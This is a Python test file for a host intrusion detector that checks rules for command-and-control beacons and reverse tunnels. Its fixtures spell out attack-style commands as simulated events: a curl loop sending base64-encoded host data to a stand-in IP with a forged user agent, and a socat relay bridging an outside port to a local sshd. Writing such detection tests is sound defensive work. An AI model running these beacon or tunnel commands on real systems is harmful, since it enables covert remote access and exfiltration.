"""beacon and tunnel_relay: command-and-control channels (issue 12: an HTTP beacon loop
and a socat reverse tunnel to a local sshd were missed)."""

from __future__ import annotations

import base64

from detector_factories import alerts, connect, init, login_shell, proc, run, sec

from vigil.detectors.beacon import BeaconDetector, encoded_token
from vigil.detectors.tunnel_relay import TunnelRelayDetector
from vigil.events.model import Event, FdInfo


def _loop_of_curls(args_of, n: int = 12, every: float = 0.55, ip: str = "198.18.7.2",
                   port: int = 8080, first_pid: int = 900):
    loop = proc("/usr/bin/bash", "beacon.sh", pid=899, parent=login_shell())
    return [connect(proc("/usr/bin/curl", *args_of(i), pid=first_pid + i, parent=loop),
                    ip, port, ts=sec(i * every)) for i in range(n)]


def _encoded(i: int) -> str:
    return base64.b64encode(f"web-01|root|{1234.5 + i}".encode()).decode()


def test_loop_of_short_clients_sending_encoded_host_data_is_a_beacon() -> None:
    events = _loop_of_curls(lambda i: ("-s", "-A", "Mozilla/4.0 (compatible; MSIE 6.0; "
                                       "Windows NT 5.1)",
                                       f"http://198.18.7.2:8080/tasks/next?id={_encoded(i)}"))
    dets = run(BeaconDetector(), events)
    assert [d.rule_id for d in alerts(dets)] == ["beacon.periodic"]
    d = dets[0]
    assert d.data["caller_pid"] == 899 and d.data["connections"] == 8
    assert d.data["signs"] == ["encoded data in the URL", "forged user agent"]
    assert d.data["title"] == "C2 beacon: periodic calls to one host with encoded data"


def test_one_implant_process_with_a_forged_agent_alone() -> None:
    implant = proc("/usr/bin/curl", "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                   "-K", "/tmp/.cfg", pid=950, parent=init())
    dets = run(BeaconDetector(), [connect(implant, "203.0.113.9", 443, ts=sec(i * 30))
                                  for i in range(9)])
    assert [d.rule_id for d in dets] == ["beacon.periodic"]


def test_periodic_monitoring_without_a_sign_is_quiet() -> None:
    push = _loop_of_curls(lambda i: ("-s", "--data-binary", "@/tmp/metrics",
                                     "http://198.18.7.2:9091/metrics/job/node"), n=20)
    assert run(BeaconDetector(), push) == []


def test_irregular_calls_and_loopback_are_not_beacons() -> None:
    gaps = [0, 0.1, 5, 5.2, 30, 31, 90, 200, 201, 350]
    loop = proc("/usr/bin/bash", "sync.sh", pid=980, parent=login_shell())
    irregular = [connect(proc("/usr/bin/curl", f"http://198.18.7.2/x?t={_encoded(i)}",
                              pid=981 + i, parent=loop), "198.18.7.2", 80, ts=sec(t))
                 for i, t in enumerate(gaps)]
    local = _loop_of_curls(lambda i: ("-s", f"http://127.0.0.1:8080/h?x={_encoded(i)}"),
                           ip="127.0.0.1")
    assert run(BeaconDetector(), irregular + local) == []


def test_encoded_token_shapes() -> None:
    assert encoded_token(["http://h/x?id=d2ViLTAxfHJvb3R8MTIzNC41"]) is not None
    assert encoded_token(["https://api.example.com/v1/users/list?page=2"]) is None
    assert encoded_token(["https://h/a/0e8b1f2c-5d3a-4c1b-9a7e-1b2c3d4e5f60"]) is None


def _accept(p, ts: int) -> Event:
    return Event(type="accept4", ts=ts, res=5, proc=p,
                 fd=FdInfo(num=5, type="ipv4", l4proto="tcp", lip="0.0.0.0", lport=8080,
                           rip="203.0.113.4", rport=50000, role="server"))


def test_socat_bridging_an_outside_listener_to_a_local_sshd() -> None:
    socat = proc("/usr/bin/socat", "TCP:198.18.7.2:4444", "TCP:127.0.0.1:35022", pid=1000,
                 parent=login_shell())
    dets = run(TunnelRelayDetector(), [connect(socat, "198.18.7.2", 4444, ts=sec(0)),
                                       connect(socat, "127.0.0.1", 35022, ts=sec(0.01))])
    assert [d.rule_id for d in alerts(dets)] == ["tunnel_relay.bridge"]
    assert dets[0].data["local"] == "127.0.0.1:35022"
    assert "Tunnel" in dets[0].data["title"]


def test_a_renamed_relay_to_a_login_port_or_from_tmp() -> None:
    renamed = proc("/usr/local/bin/helper", pid=1010, parent=init())
    dropped = proc("/tmp/.x/h", pid=1011, parent=init())
    dets = run(TunnelRelayDetector(), [
        connect(renamed, "203.0.113.9", 443, ts=sec(0)),
        connect(renamed, "127.0.0.1", 22, ts=sec(0.2)),
        connect(dropped, "203.0.113.9", 443, ts=sec(1)),
        connect(dropped, "127.0.0.1", 8080, ts=sec(1.1))])
    assert [d.entity.pid for d in alerts(dets)] == [1010, 1011]


def test_applications_and_proxies_are_not_tunnels() -> None:
    app = proc("/usr/bin/python3.11", "worker.py", pid=1020, parent=init())
    proxy = proc("/usr/sbin/haproxy", pid=1021, parent=init())
    socat_local = proc("/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80",
                       pid=1022, parent=init())
    dets = run(TunnelRelayDetector(), [
        # a worker: local database and a remote API
        connect(app, "127.0.0.1", 5432, ts=sec(0)), connect(app, "203.0.113.9", 443,
                                                            ts=sec(0.5)),
        # a reverse proxy accepting clients and calling local and remote upstreams
        _accept(proxy, sec(1)), connect(proxy, "127.0.0.1", 22, ts=sec(1.1)),
        connect(proxy, "203.0.113.9", 443, ts=sec(1.2)),
        # socat forwarding a local port to a local service: nothing goes out
        connect(socat_local, "127.0.0.1", 80, ts=sec(2)),
        # a remote connection and a local one far apart
        connect(socat_local, "203.0.113.9", 443, ts=sec(60))])
    assert dets == []
